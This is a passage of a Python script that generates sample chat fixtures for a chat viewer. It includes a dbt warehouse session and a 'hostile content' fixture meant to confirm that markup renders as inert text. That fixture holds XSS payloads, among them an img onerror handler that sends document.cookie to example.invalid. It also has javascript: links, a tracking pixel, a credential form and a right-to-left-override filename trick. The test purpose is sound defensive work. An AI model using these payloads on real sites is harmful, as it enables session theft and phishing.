            "      and o.updated_at > (select max(loaded_at) from {{ this }}) - interval 2 hour\n"
            "    {% endif %}\n),\nrefunds as (\n"
            "    select (refunded_at at time zone 'Europe/Berlin')::date as day, "
            "sum(amount) as refunded\n    from {{ ref('stg_refunds') }} group by 1\n)\n"
            "select day, sum(amount) as gross, coalesce(max(r.refunded), 0) as refunded,\n"
            "       sum(amount) - coalesce(max(r.refunded), 0) as net, now() as loaded_at\n"
            "from lines left join refunds r using (day)\ngroup by day",
        ),
    )
    b.tools(
        None,
        Call(
            "run_sql",
            {
                "query": "select day, gross, refunded, net from fct_daily_revenue where day = "
                "'2024-05-12'"
            },
            "   day     |   gross   | refunded |    net\n"
            "------------+-----------+----------+-----------\n"
            " 2024-05-12 | 184210.40 |  6120.95 | 178089.45\n(1 row)",
        ),
        Call(
            "run_shell",
            {"command": "grep 2024-05-12 /data/exports/daily_revenue.csv"},
            "2024-05-12,184388.10,6120.95,178267.15",
        ),
    )
    b.assistant(
        "Gross differs by 177.70 EUR (184,210.40 vs 184,388.10); refunds match. Two "
        "candidates: orders placed between 22:00 and 24:00 UTC (the old dump used UTC days), "
        "or the duplicate order lines we now drop. Checking both."
    )
    b.user("Probably the timezone, the CSV job was always UTC.")
    b.tools(
        None,
        Call(
            "run_sql",
            {
                "query": "select sum(l.quantity * l.unit_price) from stg_orders o join "
                "stg_order_lines l using (order_id) where o.created_at >= '2024-05-11 22:00' and "
                "o.created_at < '2024-05-12 00:00' and o.status not in ('cancelled','fraud')"
            },
            "   sum\n---------\n 2931.85\n(1 row)",
        ),
        Call(
            "run_sql",
            {
                "query": "select sum(l.quantity * l.unit_price) from stg_orders o join "
                "stg_order_lines l using (order_id) where o.created_at >= '2024-05-12 22:00' and "
                "o.created_at < '2024-05-13 00:00' and o.status not in ('cancelled','fraud')"
            },
            "   sum\n---------\n 3109.55\n(1 row)",
        ),
    )
    b.assistant(
        "The timezone explains exactly 177.70: Berlin's 12 May gains 2,931.85 (22:00-24:00 "
        "UTC on the 11th) and loses 3,109.55 (22:00-24:00 UTC on the 12th); 3,109.55 - "
        "2,931.85 = 177.70. So the new model is right by the definition you asked for, and "
        "the old CSV used UTC days. Duplicates contribute nothing on that day."
    )
    b.user(
        "Great, so the difference is expected. Document that in the model's description. "
        "Then the hourly schedule."
    )
    b.tools(
        None,
        Call(
            "run_shell",
            {
                "command": "cd ~/src/warehouse && cat >> models/marts/schema.yml <<'EOF'\n"
                "  - name: fct_daily_revenue\n    description: >\n      Net revenue per calendar "
                "day in Europe/Berlin (the legacy CSV used UTC days;\n      expect differences "
                "of the 22:00-24:00 UTC window).\nEOF\ndbt build -s fct_daily_revenue"
            },
            "Running with dbt=1.7.14\n1 of 1 OK created sql incremental model "
            "main.fct_daily_revenue [INSERT 1461 in 12.80s]\nDone. PASS=3 WARN=0 ERROR=0",
        ),
    )
    b.tools(
        "Now the systemd timer: hourly at minute 7 (the payments replica lags up to 5 min).",
        Call(
            "run_shell",
            {
                "command": "sudo tee /etc/systemd/system/warehouse-dbt.timer "
                "/etc/systemd/system/warehouse-dbt.service >/dev/null && sudo systemctl "
                "daemon-reload && sudo systemctl enable --now warehouse-dbt.timer && systemctl "
                "list-timers warehouse-dbt.timer --no-pager"
            },
            "NEXT                        LEFT       LAST PASSED UNIT                ACTIVATES\n"
            "Mon 2024-05-20 11:07:00 CEST 23min left -    -      warehouse-dbt.timer "
            "warehouse-dbt.service\n\n1 timers listed.",
        ),
    )
    b.assistant(
        "The timer runs `dbt build` hourly at :07 (first run 11:07 CEST). The service "
        "writes to journald; failures show in `systemctl status warehouse-dbt`."
    )
    b.user("What's left before we can retire the CSV dump? Remind me of the criteria we agreed.")
    b.assistant(
        "From the earlier part of our conversation (now in the summary): retire the CSV dump "
        "once the numbers match for **7 consecutive days**. With the timezone finding, "
        "'match' should mean: refunds equal, and gross equal after shifting the CSV to "
        "Berlin days. Remaining:\n1. A comparison query that does that shift (I can write it "
        "now).\n2. Seven clean days of the hourly timer (earliest: 27 May).\n3. Point the "
        "two Metabase dashboards at warehouse.duckdb.\n4. Disable the cron entry of the CSV "
        "job."
    )
    b.user("Write the comparison query.")
    b.tools(
        None,
        Call(
            "run_sql",
            {
                "query": "with csv as (select * from read_csv_auto('/data/exports/"
                "daily_revenue.csv')) select count(*) filter (where abs(c.refunded - f.refunded) "
                "> 0.005) as refund_mismatch, count(*) as days from fct_daily_revenue f join csv "
                "c using (day) where day >= current_date - 30"
            },
            " refund_mismatch | days\n-----------------+------\n               0 |   30\n(1 row)",
        ),
    )
    b.assistant(
        "Refunds match on all 30 recent days. For gross, comparing needs the UTC-day sums "
        "from the warehouse itself, so I'll add a small `fct_daily_revenue_utc` model used "
        "only for this check and drop it after the retirement."
    )
    b.user("How long does the hourly build take? The box also runs Metabase.")
    b.tools(
        "Looking at the first timer run.",
        Call(
            "run_shell",
            {"command": "journalctl -u warehouse-dbt.service --since 11:00 --no-pager | tail -6"},
            "May 20 11:07:01 wh-1 systemd[1]: Starting warehouse-dbt.service...\n"
            "May 20 11:07:04 wh-1 dbt[40112]: Running with dbt=1.7.14\n"
            "May 20 11:07:52 wh-1 dbt[40112]: Done. PASS=21 WARN=0 ERROR=0 SKIP=0 TOTAL=21\n"
            "May 20 11:07:52 wh-1 systemd[1]: warehouse-dbt.service: Deactivated successfully.\n"
            "May 20 11:07:52 wh-1 systemd[1]: warehouse-dbt.service: Consumed 1min 31.402s CPU "
            "time.\n"
            "May 20 11:07:52 wh-1 systemd[1]: Finished warehouse-dbt.service.",
        ),
    )
    b.assistant(
        "51 seconds wall time, 91 s of CPU (DuckDB uses both cores). Once an hour that "
        "leaves Metabase alone for 59 minutes; if dashboards feel slow at :07, add "
        "`CPUQuota=100%` to the service."
    )
    b.user("Add the CPUQuota, better safe. And check the row counts against Postgres once.")
    b.tools(
        None,
        Call(
            "run_shell",
            {
                "command": "sudo systemctl set-property warehouse-dbt.service CPUQuota=100% && "
                "systemctl show warehouse-dbt.service -p CPUQuotaPerSecUSec"
            },
            "CPUQuotaPerSecUSec=1s",
        ),
        Call(
            "run_sql",
            {
                "query": "select 'orders' t, count(*) from stg_orders union all select "
                "'order_lines', count(*) from stg_order_lines union all select 'customers', "
                "count(*) from stg_customers union all select 'refunds', count(*) from stg_refunds"
            },
            "      t      |  count\n-------------+---------\n orders      | 2104388\n"
            " order_lines | 7912001\n customers   |  410277\n refunds     |   38725\n(4 rows)",
        ),
    )
    b.tools(
        "Comparing with the Postgres source at the same moment.",
        Call(
            "run_shell",
            {
                "command": 'psql -h pg-replica.internal -d shop -Atc "select count(*) from orders; '
                "select count(*) from (select distinct order_id, line_no from order_lines) x; "
                'select count(*) from customers" && psql -h pg-replica.internal -d payments -Atc '
                "'select count(*) from refunds'"
            },
            "2104391\n7912001\n410277\n38725",
        ),
    )
    b.assistant(
        "Counts match except orders: 2,104,391 in Postgres vs 2,104,388 in the warehouse, 3 "
        "orders created after the 11:07 run started. order_lines matches the *distinct* "
        "(order_id, line_no) count exactly, which confirms the dedup. CPUQuota is set."
    )
    b.user("OK. Do that tomorrow, let's stop here.")
    b.assistant(
        "Sure. State for tomorrow: models stg_orders, stg_customers, stg_order_lines, "
        "stg_refunds, fct_daily_revenue are live and hourly; refunds match the CSV for 30 "
        "days; gross differs only by the UTC/Berlin day boundary; next step is "
        "fct_daily_revenue_utc and the 7-day comparison (earliest retirement 27 May)."
    )
    del first_tail
    return b.document(
        "Compaction chain: two earlier summaries, then a tail",
        "A data-engineering chat that was compacted twice: each compaction is a user message "
        "with is_compaction and compaction_meta, followed by an assistant summary "
        "(is_summary). The second points to the first through previous_compaction_id and "
        "updates its summary; the messages after it are the live tail.",
    )


# --------------------------------------------------------------------------------------------
# Hostile content: must render as inert text


def build_hostile() -> dict[str, Any]:
    b = ChatBuilder("hos")
    b.system("You are a helpful assistant. <b>System prompts can hold markup too.</b>")
    b.user("<script>alert(1)</script> Can you explain what this snippet does?")
    b.assistant(
        "`<script>alert(1)</script>` is a classic cross-site-scripting probe: if a page "
        "inserts it as HTML, the browser runs `alert(1)`. Rendered safely, you simply see "
        "the text, as here."
    )
    b.user(
        "<img src=x onerror=\"document.title='pwned';fetch('http://example.invalid/steal?c='"
        '+document.cookie)"> and <svg onload=alert(2)><circle r=10 /></svg>'
    )
    b.assistant(
        "Both are event-handler injections: `onerror` fires when the image `x` fails to load, "
        "`onload` fires when the SVG is parsed. A safe renderer escapes `<` and `>` so neither "
        "element is created."
    )
    b.user(
        "Does this Markdown load a tracking pixel? ![x](http://example.invalid/pixel.png) "
        'and [click me](javascript:alert(3)) and <iframe src="http://example.invalid/">'
        "</iframe>"
    )
    b.assistant(
        "![tracker](http://example.invalid/pixel.png?from=assistant)\n\n"
        "If Markdown is rendered, the image above triggers a request to example.invalid "
        "(a tracking pixel), and the `javascript:` link runs code when clicked. A chat viewer "
        "should show these as text."
    )
    b.user(
        "Zero-width characters: pass\u200bword, ad\u200dmin, \ufeffBOM, and a right-to-left "
        "override: invoice_\u202egpj.exe (looks like invoice_exe.jpg)."
    )
    b.assistant(
        "The string contains U+200B ZERO WIDTH SPACE, U+200D ZERO WIDTH JOINER, U+FEFF and "
        "U+202E RIGHT-TO-LEFT OVERRIDE. The last one is the 'trojan source' trick: the file "
        "name really ends in `.exe`."
    )
    b.user(
        '<style>body{display:none}</style><div style="position:fixed;inset:0;background:red">'
        "overlay</div>{{7*7}} ${7*7} <%= 7*7 %> $$\\frac{1}{0}$$"
    )
    b.tools(
        "Let me fetch the page the user mentioned to look at its markup.",
        Call(
            "fetch_url",
            {"url": "http://example.invalid/</script><script>alert('args')</script>"},
            "<!doctype html><html><head><title>pwned</title>"
            '<meta http-equiv="refresh" content="0;url=http://example.invalid/">'
            "<script>window.parent.postMessage('x','*');alert(4)</script></head>"
            '<body onload="alert(5)"><a href="javascript:alert(6)">hi</a>'
            '<form action="http://example.invalid/login"><input name=password></form>'
            "</body></html>",
        ),
    )
    b.assistant(
        "The page tries a meta refresh, an inline script, a body onload handler, a "
        "javascript: link and a credential form. None of it should execute in a chat viewer."
    )
    b.user("A very long unbroken token: " + "A" * 3000 + " end.")
    b.assistant("That line has 3,000 characters without a break; it should wrap or scroll.")
    b.user(
        "</textarea><textarea>\"'><!-- comment --> &lt;escaped&gt; &amp;amp; "
        "\u0000null? \u202a\u202b\u2066isolates\u2069"
    )
    b.assistant("Mixed HTML entities, comment markers and bidirectional isolates: all text.")
    return b.document(
        "Hostile content: HTML, scripts, trackers, invisible characters",
        "Messages holding <script> tags, event-handler injections, Markdown images pointing "
        "at remote hosts, javascript: links, zero-width and right-to-left override "
        "characters and a 3,000-character token. The app must show all of it as inert text.",
    )


BUILDERS: dict[str, Callable[[], dict[str, Any]]] = {
    "coding_agent_session": build_coding,
    "support_function_calls": build_support,
    "long_plain_chat": build_long_chat,
    "secrets_in_tool_outputs": build_secrets,
    "compaction_chain": build_compaction_chain,
    "hostile_content": build_hostile,
}


def render(document: dict[str, Any]) -> str:
    return json.dumps(document, ensure_ascii=False, indent=1) + "\n"


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--check", action="store_true", help="fail when a file is stale")
    parser.add_argument("--out", type=Path, default=OUT)
    args = parser.parse_args(argv)
    stale = []
    for name, build in BUILDERS.items():
        path = args.out / f"{name}.json"
        text = render(build())
        if args.check:
            if not path.exists() or path.read_text(encoding="utf-8") != text:
                stale.append(path.name)
            continue
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
        count = len(json.loads(text)["messages"])
        print(f"{path.relative_to(args.out.parent)}: {count} messages, {len(text):,} bytes")
    if stale:
        print("out of date (run scripts/make_sample_chats.py): " + ", ".join(stale))
        return 1
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
